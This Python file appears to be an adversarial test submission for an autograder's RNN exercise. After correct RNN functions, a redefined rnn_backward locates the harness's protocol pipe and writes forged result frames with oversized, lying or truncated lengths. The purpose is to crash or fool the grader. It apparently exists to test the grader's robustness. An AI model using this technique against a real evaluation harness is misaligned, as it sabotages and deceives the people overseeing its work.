"""Adversarial submission `frame_oversized`: writes frames with lying sizes straight to the protocol pipe: a 4 GiB header, arrays of 2**64 bytes, truncated bodies.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""
import numpy as np


def _sigmoid(a):
    """Numerically stable logistic sigmoid: exp never sees a positive argument."""
    e = np.exp(-np.abs(a))
    return np.where(a >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


# ----------------------------------------------------------------------------
# Vanilla RNN
# ----------------------------------------------------------------------------

def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    cache = (x, prev_h, Wx, Wh, next_h)
    return next_h, cache


def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh, next_h = cache
    da = dnext_h * (1.0 - next_h ** 2)       # tanh'(a) = 1 - tanh(a)^2
    dx = da @ Wx.T
    dprev_h = da @ Wh.T
    dWx = x.T @ da
    dWh = prev_h.T @ da
    db = da.sum(axis=0)
    return dx, dprev_h, dWx, dWh, db


def rnn_forward(x, h0, Wx, Wh, b):
    N, T, D = x.shape
    H = h0.shape[1]
    h = np.zeros((N, T, H))
    prev_h = h0
    for t in range(T):
        prev_h = np.tanh(x[:, t] @ Wx + prev_h @ Wh + b)
        h[:, t] = prev_h
    cache = (x, h0, Wx, Wh, h)
    return h, cache


def rnn_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    N, T, D = x.shape
    dx = np.zeros((N, T, D))
    dWx = np.zeros_like(Wx)
    dWh = np.zeros_like(Wh)
    db = np.zeros(Wh.shape[0])
    dprev_h = np.zeros_like(h0)              # gradient flowing back from step t+1
    for t in reversed(range(T)):
        prev_h = h[:, t - 1] if t > 0 else h0
        dnext_h = dh[:, t] + dprev_h         # a new array: dh is not modified
        da = dnext_h * (1.0 - h[:, t] ** 2)
        dx[:, t] = da @ Wx.T
        dprev_h = da @ Wh.T
        dWx += x[:, t].T @ da
        dWh += prev_h.T @ da
        db += da.sum(axis=0)
    dh0 = dprev_h
    return dx, dh0, dWx, dWh, db


# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import gc, json, os, struct, time

def _protocol_fd():
    for obj in gc.get_objects():
        try:
            if hasattr(obj, "fd_out") and hasattr(obj, "send"):
                return obj.fd_out
        except Exception:
            pass
    return 4

def _forge(raw):
    fd = _protocol_fd()
    os.write(fd, raw)
    time.sleep(30)  # the parent must act on the forged frame, not on a late real one

def rnn_backward(dh, cache):
    v = int(abs(float(np.sum(dh))) * 1000) % 4
    if v == 0:
        _forge(struct.pack(">I", 0xFFFFFFF0) + b"{")
    elif v == 1:
        head = json.dumps({"status": "ok", "arrays": [{"dtype": "<f8", "shape": [2**32, 2**32]}],
                           "value": {"t": "array", "i": 0}}).encode()
        _forge(struct.pack(">I", len(head)) + head)
    elif v == 2:
        head = json.dumps({"status": "ok", "arrays": [{"dtype": "<f8", "shape": [1 << 36]}],
                           "value": {"t": "array", "i": 0}}).encode()
        _forge(struct.pack(">I", len(head)) + head + b"\0" * 1024)
    else:
        head = json.dumps({"status": "ok", "value": {"t": "array", "i": 0},
                           "arrays": [{"dtype": "<f8", "shape": [8]}]}).encode()
        _forge(struct.pack(">I", len(head) + 100) + head)
